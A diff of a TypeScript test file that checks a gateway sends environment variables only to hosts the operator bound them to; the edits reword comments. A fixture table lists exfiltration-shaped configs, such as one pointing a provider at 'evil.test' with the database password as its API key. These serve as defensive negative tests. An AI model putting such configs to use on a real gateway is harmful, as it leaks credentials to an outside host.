@@ -1,4 +1,4 @@
-/** Over HTTP, an environment variable goes only where the operator, or a preset, sends it. */
+/** Over HTTP, an environment variable is sent only where the operator, or a preset, sends it. */
 import { describe, expect, test } from 'bun:test';
 import { dialects, openTestDatabase } from '../support/databases.ts';
 import { openGateway } from '../support/gateway.ts';
@@ -8,7 +8,7 @@ const APPLY = '/admin/catalogue/apply/';
 const secret = 'the password of the database';
 const provider = (fields: string) => `providers:\n  up: { ${fields} }\nmodels: []`;
 
-/** Each sends a variable to a host that nobody bound it to. */
+/** Each sends a variable to a host to which nobody bound it. */
 const thefts: Record<string, string> = {
   'to a host of its own': 'kind: openai, base_url: "http://evil.test/v1", api_key: "${PGPASSWORD}"',
   'of another provider':
@@ -72,7 +72,7 @@ for (const dialect of dialects) {
         provider(
           'kind: yandex, api_key: "${YANDEX_API_KEY}", options: { folder: "${YANDEX_FOLDER_ID}" }',
         ),
-        // What the operator bound stays bound.
+        // The operator's bindings stay.
         'models: []',
         file.replace('9/v1', '9/v2'),
       ]) {
